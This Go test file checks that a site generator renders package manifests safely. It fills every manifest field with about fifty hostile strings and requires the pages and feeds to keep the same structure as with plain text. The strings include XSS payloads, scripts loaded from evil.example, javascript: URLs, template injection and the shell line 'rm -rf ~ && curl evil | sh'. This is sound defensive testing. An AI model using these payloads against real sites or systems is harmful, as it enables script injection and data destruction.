package site

import (
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"maps"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"

	"sinew/pkg/hublog"
	"sinew/pkg/hubsearch"
	"sinew/pkg/manifest"
	"sinew/pkg/text"
)

// hostile are texts that would do something on a page that is written without
// care. Each holds letters, so that no text is empty once it is cleaned.
func hostile() []string {
	all := []string{
		`<script>alert(1)</script>`, `</script><script src=//evil.example/x.js></script>`, `<img src=x onerror=alert(1)>`,
		`"><svg onload=alert(1)>`, `' onmouseover='alert(1)`, `" autofocus onfocus="alert(1)`, `</bdi></p></main></body></html><h1>owned`,
		`</code><iframe src="https://evil.example">`, `</title><script>alert(1)</script>`, `</noscript><b>bold`, `<!-- comment`, `--><b>bold`,
		`<![CDATA[<b>]]>`, `<?php echo 1 ?>`, `]]><entry><id>x</id></entry>`, `</summary></entry><entry>`, `&lt;b&gt;&amp;&#60;b&#62;`, `&NotAnEntity; &#x3c;`,
		`javascript:alert(1)`, `[click](javascript:alert(1))`, `data:text/html,<script>alert(1)</script>`, `data:image/svg+xml;base64,PHN2Zz4=`,
		`https://evil.example/?q=<b>`, `{{.Root}} {{define "head"}}x{{end}}`, `${alert(1)} #{1+1}`, "`backticks` and $(date)", `a; rm -rf ~ && curl evil | sh`,
		`hub.terms("6162",{})`, `");hub.docs(0,[]);("`, `\u003cscript\u003e \x3c`, `<base href=https://evil.example/>`, `<meta http-equiv=refresh content=0>`,
		`<link rel=stylesheet href=//evil.example>`, `<style>*{display:none}</style>`, `<form action=//evil.example><input name=q>`, `<a href=x id=q class=skip name=main>a</a>`,
		"zero\u200bwidth\u200djoined\u2060words\ufeff", "soft\u00adhyphen and tags \U000e0061\U000e0062", "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 marks",
		"line\u2028and paragraph\u2029separators", "\u05d0\u05d1\u05d2 right to left \u0627\u0644", "\u202eoverride\u202c", "\u2066isolate\u2069 and \u200fmarks", "bell\a and escape\x1b[31m",
		"nul\x00byte", "\ufffd replacement \ud7ff\U0010ffff", "\uff1cscript\uff1e wide", "\u3164filler\u115f", strings.Repeat("w", 5000), strings.Repeat("<b>", 2000),
		strings.Repeat("long words with spaces ", 1<<20/23), "\u65e5\u672c\u8a9e and \U0001f468\u200d\U0001f469\u200d\U0001f467",
	}
	for i, s := range all {
		all[i] = "x " + s + " y"
	}
	return all
}

// quoted is a text as TOML writes it.
func quoted(s string) string {
	var out strings.Builder
	for _, r := range s {
		if r == '"' || r == '\\' || r < ' ' || r == 0x7f {
			fmt.Fprintf(&out, `\u%04x`, r)
		} else {
			out.WriteRune(r)
		}
	}
	return `"` + out.String() + `"`
}

// saysEverywhere is a manifest with a text wherever the format lets an author
// write one.
func saysEverywhere(s string) string {
	q := quoted(s)
	bare := quoted(strings.NewReplacer("{", "(", "}", ")").Replace(s)) // where braces are placeholders
	return fmt.Sprintf(`reflex = 1
description = %[1]s
not_for = [%[1]s]
effect = "write"
confirm = %[2]s
run = ["echo", %[2]s]
platforms = ["linux"]

[config]
key = %[1]s

[args.room]
ask = %[1]s
options = { den = %[1]s, hall = "The hall." }

[args.who]
ask = %[1]s
pick = "quoted"
optional = true

[examples]
%[1]s = { room = "den" }
"one" = { room = "hall" }

[tests]
%[3]s = false
`, q, bare, quoted("test "+s))
}

// shape is a page without its texts: each element with its attributes.
func shape(t *testing.T, page string) string {
	t.Helper()
	var out strings.Builder
	tokens := html.NewTokenizer(strings.NewReader(page))
	for {
		switch tokens.Next() {
		case html.ErrorToken:
			if !errors.Is(tokens.Err(), io.EOF) {
				t.Fatal(tokens.Err())
			}
			return out.String()
		case html.TextToken:
		default:
			fmt.Fprintln(&out, withoutHash(tokens.Token()))
		}
	}
}

// withoutHash is a tag. A commit's is another for each reflex.
func withoutHash(t html.Token) string {
	for i, a := range t.Attr {
		if a.Key == "title" && len(a.Val) == 40 {
			t.Attr[i].Val = "commit"
		}
	}
	return t.String()
}

// parsedShape is the same of what a browser makes of the page.
func parsedShape(t *testing.T, page string) string {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	must(t, err)
	var out strings.Builder
	for node := range root.Descendants() {
		if node.Type == html.ElementNode {
			fmt.Fprintln(&out, withoutHash(html.Token{Type: html.StartTagToken, Data: node.Data, Attr: node.Attr}))
		}
	}
	return out.String()
}

// xmlShape is a feed without its texts.
func xmlShape(t *testing.T, feed string) string {
	t.Helper()
	var out strings.Builder
	decoder := xml.NewDecoder(strings.NewReader(feed))
	for {
		token, err := decoder.Token()
		if errors.Is(err, io.EOF) {
			return out.String()
		}
		must(t, err)
		switch token := token.(type) {
		case xml.StartElement:
			fmt.Fprintln(&out, token.Name.Local, token.Attr)
		case xml.EndElement:
			fmt.Fprintln(&out, "/"+token.Name.Local)
		}
	}
}

// siteSaying is a site of one reflex with two versions, the newer of which says
// a text wherever it can.
func siteSaying(t *testing.T, s string) map[string]string {
	t.Helper()
	const name = "github.com/radhi/home#say"
	scene := newScene(t)
	scene.publish(name, "1.0.0", map[string]string{"reflex.toml": saysEverywhere("x plain y"), "body.mts": "one\n"})
	r := scene.publish(name, "2.0.0", map[string]string{"reflex.toml": saysEverywhere(s), "body.mts": s + "\n"})
	at := r.Seen.Format("2006-01-02T15:04:05Z")
	reason := hubsearch.Clean(text.Escape(s), 150)
	retract := hublog.Record{Kind: hublog.KindRetract, Name: r.Name, Version: r.Version, Seen: r.Seen, Reason: reason}
	scene.say(retract.String(), "signer "+name+" 2.0.0 "+strings.ReplaceAll(strings.Map(printable, s), " ", "_")[:min(60, len(strings.Map(printable, s)))]+" "+at)
	scene.all("site")
	return scene.files("site")
}

func printable(r rune) rune {
	if r < ' ' || r > '~' {
		return -1
	}
	return r
}

// TestHostileManifestsChangeNothingButTheirOwnText compares each page with that
// of a reflex that says plain words: the same elements, the same attributes.
func TestHostileManifestsChangeNothingButTheirOwnText(t *testing.T) {
	t.Parallel()
	all := hostile()
	if len(all) < 50 {
		t.Fatalf("%d hostile texts", len(all))
	}
	plain := siteSaying(t, "x plain text y")
	unread := siteSaying(t, "x \x00 y")
	read := 0
	for _, s := range all {
		want := unread
		if _, err := manifest.Parse("x", []byte(saysEverywhere(s))); err == nil {
			want = plain
			read++
		}
		compareSites(t, s, siteSaying(t, s), want)
	}
	if read < 40 {
		t.Errorf("only %d of %d manifests read", read, len(all))
	}
}

func compareSites(t *testing.T, s string, got, want map[string]string) {
	t.Helper()
	if one, other := pagesOf(got), pagesOf(want); !slices.Equal(one, other) {
		t.Errorf("%.60q makes the pages %q, and plain words %q", s, one, other)
	}
	for _, path := range pagesOf(want) {
		switch {
		case strings.HasSuffix(path, ".html"):
			comparePages(t, s, path, got[path], want[path])
		case strings.HasSuffix(path, ".xml"):
			if xmlShape(t, got[path]) != xmlShape(t, want[path]) {
				t.Errorf("%.60q changes %s:\n%.3000s", s, path, got[path])
			}
		}
	}
}

// pagesOf are the names of a site's pages and feeds.
func pagesOf(files map[string]string) []string {
	var all []string
	for _, path := range slices.Sorted(maps.Keys(files)) {
		if strings.HasSuffix(path, ".html") || strings.HasSuffix(path, ".xml") {
			all = append(all, path)
		}
	}
	return all
}

func comparePages(t *testing.T, s, path, got, want string) {
	t.Helper()
	if one, other := shape(t, got), shape(t, want); one != other {
		t.Errorf("%.60q changes %s:\n%.4000s\nwant\n%.4000s", s, path, one, other)
	}
	if parsedShape(t, got) != parsedShape(t, want) {
		t.Errorf("%.60q changes what is made of %s", s, path)
	}
	if len(got) > 100<<10 {
		t.Errorf("%.60q makes %s %d bytes long", s, path, len(got))
	}
	for _, r := range got {
		if r != '\n' && (text.Unclean(r) || hubsearch.Clean("x"+string(r)+"x", 100) == "xx") || !utf8.ValidString(got) {
			t.Errorf("%.60q puts %U into %s", s, r, path)
			return
		}
	}
}
